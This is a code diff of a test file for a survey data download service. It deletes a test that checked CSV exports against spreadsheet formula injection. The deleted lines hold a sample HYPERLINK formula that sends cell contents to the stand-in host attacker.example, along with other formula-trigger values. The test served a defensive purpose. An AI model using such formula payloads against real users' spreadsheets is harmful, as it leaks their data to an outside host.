@@ -1,6 +1,5 @@
 """Who downloads record files, and that these are a function of what they may show."""
 
-import csv
 import io
 import json
 import re
@@ -121,17 +120,6 @@ def test_a_bundle_speaks_the_downloaders_language(allowed: Survey, client: Clien
     assert "工作" in bundle.read("codebook.md").decode().splitlines()[0]
     table = parquet.read_table(io.BytesIO(bundle.read("records.parquet")))
     assert "是" in table.schema.field("theft").metadata[b"candor:labels"].decode()
-
-
-def test_no_cell_is_computed_by_who_opens_it(client: Client, owner: Person, allow: Allow) -> None:
-    formula = '=HYPERLINK("http://attacker.example/"&A1,"see")'
-    question = {"name": "+1+2", "choices": [formula, "@SUM(A1)"]}
-    asks = asked.written({"kind": "plain", "questions": [question]}, least=20)
-    survey = asked.survey(asks, owner=owner)
-    asked.seal_batches(survey, asks, [RecordRow(1, (0,)), RecordRow(1, (1,))] * 20)
-    allow(survey)
-    lines = download(client, survey).read("records.csv").decode().splitlines()
-    assert {row[1] for row in csv.reader(lines)} == {"'+1+2", f"'{formula}", "'@SUM(A1)"}
 
 
 def test_the_other_formats_hold_the_same_records_and_each_download_stands_in_the_history(
